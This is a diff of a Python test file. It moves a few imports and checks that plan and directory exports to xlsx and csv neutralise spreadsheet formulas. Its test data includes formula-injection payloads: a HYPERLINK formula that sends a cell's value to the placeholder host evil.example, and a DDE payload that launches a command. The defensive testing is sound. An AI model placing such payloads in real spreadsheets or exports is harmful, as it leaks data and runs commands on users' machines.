@@ -23,7 +23,7 @@ from dondoc.clock import TZ
 from dondoc.config import Settings
 from dondoc.models import Assignment, Officer, Plan, StatusUpdate, Unit
 from dondoc.reporting.sample import seed_sample
-from dondoc.reporting.compile import build_snapshot
+from dondoc.reporting.snapshot import build_snapshot
 from tests.web.world import World
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm vào")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
@@ -104,7 +104,8 @@ def test_plan_export_xlsx_neutralises_formulas(engine: Engine, settings: Setting
 @pytest.mark.parametrize("fmt", ["xlsx", "csv"])
 def test_directory_export_neutralises_formulas(engine: Engine, settings: Settings, tmp_path: Path, fmt: str) -> None:
     from dondoc import clock
-    from dondoc.directory.files import export_directory, import_directory
+    from dondoc.directory.apply import import_directory
+    from dondoc.directory.export import export_directory
 
     src = tmp_path / "dir.yaml"
     src.write_text(
